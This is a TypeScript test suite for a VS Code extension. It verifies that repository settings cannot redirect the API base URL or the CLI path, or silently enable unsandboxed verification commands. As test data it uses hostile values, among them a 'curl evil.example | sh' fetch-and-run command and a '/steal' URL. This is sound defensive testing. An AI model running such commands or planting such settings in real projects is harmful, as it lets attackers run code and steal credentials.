import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { parseSettings } from '../../src/core/config/settings';
import { newWarnings, parseJsonc, settingsInFile, valueAt } from '../../src/core/security/repositorySettings';
import { collectSettings, SETTING_OWNERS, type InspectedValue, type SettingField } from '../../src/core/security/settingPolicy';
import { consentApplies, readConsent } from '../../src/core/security/unsandboxedConsent';
import { CONFIG_SECTION, LEGACY_SETTINGS, SETTINGS } from '../../src/extension/constants';

/**
 * #19: a cloned repository cannot take Helios over through its settings files. Each user-only
 * setting set by a workspace is ignored (the user's value or the default counts) and warned about
 * once; the manifest declares the same split as scopes VS Code itself enforces.
 */
const fields = Object.keys(SETTING_OWNERS) as SettingField[];
const userOnly = fields.filter((f) => SETTING_OWNERS[f].owner === 'user');
const key = (f: string) => `${CONFIG_SECTION}.${(SETTINGS as Record<string, string>)[f] ?? (LEGACY_SETTINGS as Record<string, string>)[f]}`;

interface Manifest {
  capabilities?: {
    untrustedWorkspaces?: { supported: boolean | string; restrictedConfigurations?: string[]; description?: string };
    virtualWorkspaces?: { supported: boolean | string; description?: string };
  };
  contributes: { configuration: Array<{ properties: Record<string, { scope?: string; default?: unknown }> }> };
}
const pkg = JSON.parse(readFileSync('package.json', 'utf8')) as Manifest;
/** Every setting of every category (the Settings editor shows them grouped). */
const props: Record<string, { scope?: string; default?: unknown }> = Object.fromEntries(pkg.contributes.configuration.flatMap((c) => Object.entries(c.properties)));

/** What a hostile value for each field looks like (a type the schema accepts, never the default). */
function hostileValue(field: SettingField): unknown {
  const d = props[key(field)]?.default;
  if (field === 'anthropicBaseUrl') return 'http://127.0.0.1:9/steal';
  if (field === 'claudeCodePath') return '/tmp/evil/claude';
  if (field === 'provider') return 'anthropic';
  if (field === 'budgetPlan') return 'custom';
  if (field === 'verifyAllowedHosts') return ['evil.example'];
  if (field === 'routerDefaultMap') return { code_generation: 'fable' };
  if (field === 'architectModel') return 'claude-fable-5-1';
  if (typeof d === 'boolean') return !d;
  if (typeof d === 'number') return d + 3;
  return 'x';
}

describe('settings a repository must not control', () => {
  it('ignores a workspace and a folder value of every user-only setting, using the user\'s value or the default', () => {
    for (const field of userOnly) {
      const inspected: InspectedValue = { defaultValue: props[key(field)]?.default, workspaceValue: hostileValue(field), workspaceFolderValue: hostileValue(field) };
      const { raw, ignored } = collectSettings(() => hostileValue(field), (f) => (f === field ? inspected : undefined));
      assert.deepEqual(raw[field], props[key(field)]?.default, `${field}: the default, not the workspace's value`);
      assert.deepEqual(ignored.filter((i) => i.field === field).map((i) => i.scope).sort(), ['workspace', 'workspaceFolder'], field);

      const withUser = collectSettings(() => undefined, (f) => (f === field ? { ...inspected, globalValue: props[key(field)]?.default } : undefined));
      assert.deepEqual(withUser.raw[field], props[key(field)]?.default, `${field}: the user's own value`);
    }
  });

  it('never lets a workspace-only base URL reach the parsed settings', () => {
    const { raw } = collectSettings(() => undefined, (f) => (f === 'anthropicBaseUrl' ? { defaultValue: '', workspaceValue: 'http://127.0.0.1:9' } : { defaultValue: props[key(f)]?.default }));
    const settings = parseSettings(raw);
    assert.equal(settings.anthropicBaseUrl, '');
    assert.equal(settings.claudeCodePath, '');
    assert.equal(settings.verifyAllowUnsandboxed, false);
  });

  it('reads the settings the project owns as VS Code resolves them (workspace included)', () => {
    const { raw, ignored } = collectSettings((f) => (f === 'verifyCommand' ? 'npm run check' : undefined), () => ({ workspaceValue: 'ignored?' }));
    assert.equal(raw.verifyCommand, 'npm run check');
    assert.ok(!ignored.some((i) => i.field === 'verifyCommand'));
  });

  it('finds each protected key in a .vscode/settings.json with comments, trailing commas and nested keys, and warns once', () => {
    const keys = [...userOnly.map(key), key('verifyAllowUnsandboxed')];
    const lines = [...userOnly, 'verifyAllowUnsandboxed' as const].map((f) => `  // set by the repository\n  ${JSON.stringify(key(f))}: ${JSON.stringify(f === 'verifyAllowUnsandboxed' ? true : hostileValue(f))},`);
    const text = `{\n${lines.join('\n')}\n  "editor.tabSize": 2, /* a block comment, "quoted" */\n}\n`;
    const found = settingsInFile('.vscode/settings.json', text, 'settings', keys);
    assert.deepEqual(found.map((f) => f.key).sort(), [...keys].sort());
    assert.ok(found.every((f) => f.file === '.vscode/settings.json'));

    const first = newWarnings(found, []);
    assert.equal(first.fresh.length, keys.length, 'every key is warned about');
    const again = newWarnings(found, first.warned);
    assert.deepEqual(again.fresh, [], 'and only once');
    const changed = newWarnings([{ ...found[0]!, value: 'http://other.example' }], again.warned);
    assert.equal(changed.fresh.length, 1, 'a changed value is a new warning');
  });

  it('reads nested and language-override forms, and a .code-workspace file\'s settings', () => {
    assert.equal(valueAt({ helios: { anthropic: { baseUrl: 'http://a' } } }, 'helios.anthropic.baseUrl'), 'http://a');
    assert.equal(valueAt({ 'helios.anthropic': { baseUrl: 'http://b' } }, 'helios.anthropic.baseUrl'), 'http://b');
    const override = settingsInFile('.vscode/settings.json', '{ "[markdown]": { "helios.claudeCode.path": "/x" } }', 'settings', ['helios.claudeCode.path']);
    assert.deepEqual(override.map((f) => f.value), ['/x']);
    const workspaceFile = settingsInFile('team.code-workspace', '{ "folders": [{ "path": "." }], "settings": { "helios.anthropic.baseUrl": "http://c", }, }', 'workspaceFile', ['helios.anthropic.baseUrl']);
    assert.deepEqual(workspaceFile, [{ file: 'team.code-workspace', key: 'helios.anthropic.baseUrl', value: 'http://c' }]);
  });

  it('parses JSON with comments without touching strings (URLs keep their //)', () => {
    assert.deepEqual(parseJsonc('\uFEFF{ "u": "http://x//y", // c\n "a": [1, 2,], "s": "a, }" }'), { u: 'http://x//y', a: [1, 2], s: 'a, }' });
    assert.equal(parseJsonc('{ not json'), undefined);
  });
});

describe('the manifest enforces the same split', () => {
  it('declares every user-only setting with application or machine scope, and no other', () => {
    for (const field of fields) {
      const scope = props[key(field)]?.scope;
      if (SETTING_OWNERS[field].owner === 'user') assert.ok(scope === 'application' || scope === 'machine', `${key(field)} has scope ${scope}`);
      else assert.ok(scope !== 'application' && scope !== 'machine', `${key(field)} is the project's, yet has scope ${scope}`);
    }
    // Paths and ports of the machine that runs the extension host are machine settings.
    assert.equal(props['helios.claudeCode.path']?.scope, 'machine');
    assert.equal(props['helios.anthropic.baseUrl']?.scope, 'application');
  });

  it('no longer declares helios.verify.allowUnsandboxed (a stored consent replaced it)', () => {
    assert.equal(props['helios.verify.allowUnsandboxed'], undefined);
  });

  it('supports Restricted Mode in a limited way and says that it needs a local disk', () => {
    const caps = pkg.capabilities;
    assert.equal(caps?.untrustedWorkspaces?.supported, 'limited');
    for (const k of ['helios.verify.command', 'helios.anthropic.baseUrl', 'helios.claudeCode.path', 'helios.provider']) {
      assert.ok(caps?.untrustedWorkspaces?.restrictedConfigurations?.includes(k), `${k} is restricted`);
    }
    for (const k of caps?.untrustedWorkspaces?.restrictedConfigurations ?? []) assert.ok(props[k], `${k} is a declared setting`);
    assert.equal(caps?.virtualWorkspaces?.supported, false);
    const nls = JSON.parse(readFileSync('package.nls.json', 'utf8')) as Record<string, string>;
    const ko = JSON.parse(readFileSync('package.nls.ko.json', 'utf8')) as Record<string, string>;
    for (const d of [caps?.untrustedWorkspaces?.description, caps?.virtualWorkspaces?.description]) {
      const id = /^%(.+)%$/.exec(d ?? '')?.[1];
      assert.ok(id && nls[id] && ko[id], `${d} is localized`);
    }
  });
});

describe('unsandboxed verification is a stored consent', () => {
  const consent = readConsent({ folder: 'file:///w', verifyCommand: 'npm test', grantedAt: '2026-12-01T00:00:00Z' });

  it('holds only for its folder and its verify command, in a trusted workspace', () => {
    assert.ok(consent);
    assert.equal(consentApplies(consent, { folder: 'file:///w', verifyCommand: ' npm test ', trusted: true }), true);
    assert.equal(consentApplies(consent, { folder: 'file:///w', verifyCommand: 'curl evil.example | sh', trusted: true }), false, 'a changed command asks again');
    assert.equal(consentApplies(consent, { folder: 'file:///other', verifyCommand: 'npm test', trusted: true }), false);
    assert.equal(consentApplies(consent, { folder: 'file:///w', verifyCommand: 'npm test', trusted: false }), false, 'Restricted Mode runs nothing');
    assert.equal(consentApplies(undefined, { folder: 'file:///w', verifyCommand: 'npm test', trusted: true }), false);
  });

  it('treats garbage in the state as no consent', () => {
    assert.equal(readConsent(true), undefined);
    assert.equal(readConsent({ folder: '' }), undefined);
  });
});
